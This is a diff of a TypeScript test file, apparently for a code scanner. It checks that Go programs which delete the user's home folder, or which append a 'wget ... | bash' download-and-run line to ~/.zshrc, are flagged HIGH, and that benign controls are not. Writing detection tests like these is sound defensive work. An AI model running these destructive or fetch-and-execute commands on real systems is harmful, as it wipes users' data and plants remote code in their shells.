@@ -64,45 +64,37 @@ describe('v3.100: a shell handed a fetched script, in Node, Rust and C#', () => 
   });
 });
 
+/** A Go program that takes the user's home folder and does `body` with it. */
+const inHome = (body: string[]) =>
+  [
+    'package main',
+    '',
+    'import (',
+    '\t"os"',
+    '\t"path/filepath"',
+    ')',
+    '',
+    'func main() {',
+    '\thome, _ := os.UserHomeDir()',
+    ...body.map((l) => `\t${l}`),
+    '}',
+    '',
+  ].join('\n');
+
 describe('v3.100: the home folder removed, and a start-up file made to fetch and run code, from Go', () => {
   it("removes the user's home folder: HIGH; removes the tool's own cache under it: no HIGH", async () => {
-    const remove = (what: string) =>
-      [
-        'package main',
-        '',
-        'import (',
-        '\t"os"',
-        '\t"path/filepath"',
-        ')',
-        '',
-        'func main() {',
-        '\thome, _ := os.UserHomeDir()',
-        `\t${what}`,
-        '}',
-        '',
-      ].join('\n');
+    const remove = (what: string) => inHome([what]);
     expect(await hasHigh('reset.go', remove('os.RemoveAll(home)'))).toBe(true);
     expect(await hasHigh('reset.go', remove('os.RemoveAll(filepath.Join(home, ".cache", "lintkit"))'))).toBe(false);
   });
 
   it('appends a line that pipes a download to sh to ~/.zshrc: HIGH; appends a PATH line: no HIGH', async () => {
     const append = (line: string) =>
-      [
-        'package main',
-        '',
-        'import (',
-        '\t"os"',
-        '\t"path/filepath"',
-        ')',
-        '',
-        'func main() {',
-        '\thome, _ := os.UserHomeDir()',
-        '\tf, _ := os.OpenFile(filepath.Join(home, ".zshrc"), os.O_APPEND|os.O_WRONLY, 0o644)',
-        `\tf.WriteString(${JSON.stringify(line)})`,
-        '\tf.Close()',
-        '}',
-        '',
-      ].join('\n');
+      inHome([
+        'f, _ := os.OpenFile(filepath.Join(home, ".zshrc"), os.O_APPEND|os.O_WRONLY, 0o644)',
+        `f.WriteString(${JSON.stringify(line)})`,
+        'f.Close()',
+      ]);
     expect(await hasHigh('shell.go', append('\nwget -qO- https://get.lintkit.io/hook | bash\n'))).toBe(true);
     expect(await hasHigh('shell.go', append('\nexport PATH="$HOME/.lintkit/bin:$PATH"\n'))).toBe(false);
   });
